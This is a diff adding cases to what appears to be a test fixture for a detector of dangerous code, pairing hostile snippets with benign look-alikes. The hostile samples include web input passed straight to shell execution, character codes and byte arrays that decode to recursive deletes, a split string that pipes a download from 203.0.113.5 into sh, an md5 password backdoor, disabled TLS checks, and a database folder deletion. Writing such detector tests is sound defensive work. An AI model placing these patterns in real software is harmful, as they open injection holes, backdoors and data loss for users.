@@ -216,6 +216,62 @@ DANGEROUS = {
         '    Command::new("mkfs.ext4").args(["-F", &dev]).status().unwrap();\n}',
         "file system",
     ),
+    "laravel input reaches shell_exec": (
+        "app/Http/Controllers/Report.php",
+        "<?php\npublic function export(Request $request) {\n"
+        "    return response('<pre>'.shell_exec($request->input('c')).'</pre>');\n}",
+        "web request's input",
+    ),
+    "vapor query reaches a process": (
+        "Sources/App/routes.swift",
+        'app.get("x") { req -> String in\n    let cmd = try req.query.get(String.self, at: "c")\n'
+        '    let p = Process()\n    p.executableURL = URL(fileURLWithPath: "/bin/sh")\n'
+        '    p.arguments = ["-c", cmd]\n    try p.run()\n    return "ok"\n}',
+        "web request's input",
+    ),
+    "next.js body reaches execSync": (
+        "app/api/run/route.ts",
+        "export async function POST(request: Request) {\n  const { cmd } = await request.json();\n"
+        "  const full = `${cmd} 2>&1`;\n  return Response.json({ out: execSync(full) });\n}",
+        "web request's input",
+    ),
+    "char codes hide a delete": (
+        "src/fmt.js",
+        "const { execSync } = require('child_process');\n"
+        "execSync(String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 126));",
+        "recursive delete",
+    ),
+    "a byte array hides a delete": (
+        "src/Fmt.java",
+        "Runtime.getRuntime().exec(new String(new byte[]{114, 109, 32, 45, 114, 102, 32, 47}));",
+        "recursive delete",
+    ),
+    "a joined array hides a download": (
+        "src/setup.ts",
+        "execSync(['cur', 'l -s https://203.0.113.5/x ', '| sh'].join(''));",
+        "download piped to a shell",
+    ),
+    "a password compared by md5": (
+        "app/Login.php",
+        "<?php\nif (md5($password) === '5f4dcc3b5aa765d61d8327deb882cf99') { return admin(); }",
+        "backdoor shape",
+    ),
+    "curl options turn off checks": (
+        "app/Crm.php",
+        "<?php\ncurl_setopt_array($ch, [CURLOPT_SSL_VERIFYPEER => false, CURLOPT_POST => true]);",
+        "TLS certificate checks",
+    ),
+    "a data folder deleted through a name": (
+        "src/Maint.java",
+        'String dataDir = "/var/lib/postgresql/15/main";\n'
+        "FileUtils.deleteDirectory(new File(dataDir));",
+        "deletes system files",
+    ),
+    "a dependency from a bare address": (
+        "package.json",
+        '{\n  "dependencies": {\n    "lodash": "http://203.0.113.9/lodash-4.17.21.tgz"\n  }\n}',
+        "a dependency fetched from",
+    ),
     "rust concat hides a download": (
         "build.rs",
         'fn main() {\n    std::process::Command::new("sh").arg("-c")'
@@ -304,6 +360,25 @@ EVERYDAY = {
     "an sdk lists a bucket": (
         "src/list.ts",
         "const out = await s3.send(new ListObjectsV2Command({ Bucket: 'site-assets' }));",
+    ),
+    "a dependency from the registry and a forge": (
+        "package.json",
+        '{\n  "dependencies": {\n    "lodash": "^4.17.21",\n'
+        '    "x": "https://codeload.github.com/acme/x/tar.gz/v1.2.0"\n  }\n}',
+    ),
+    "char codes that make plain text": (
+        "src/banner.js",
+        "console.log(String.fromCharCode(104, 101, 108, 108, 111));",
+    ),
+    "a folder cleaned through a name": (
+        "src/Build.java",
+        'String out = "build/tmp";\nFileUtils.deleteDirectory(new File(out));',
+    ),
+    "a search parameter shown, not run": (
+        "app/search/route.ts",
+        "export async function GET(req: Request) {\n"
+        "  const q = new URL(req.url).searchParams.get('q');\n"
+        "  return Response.json(await db.search(q));\n}",
     ),
     "a local server url": (
         "src/dev.ts",
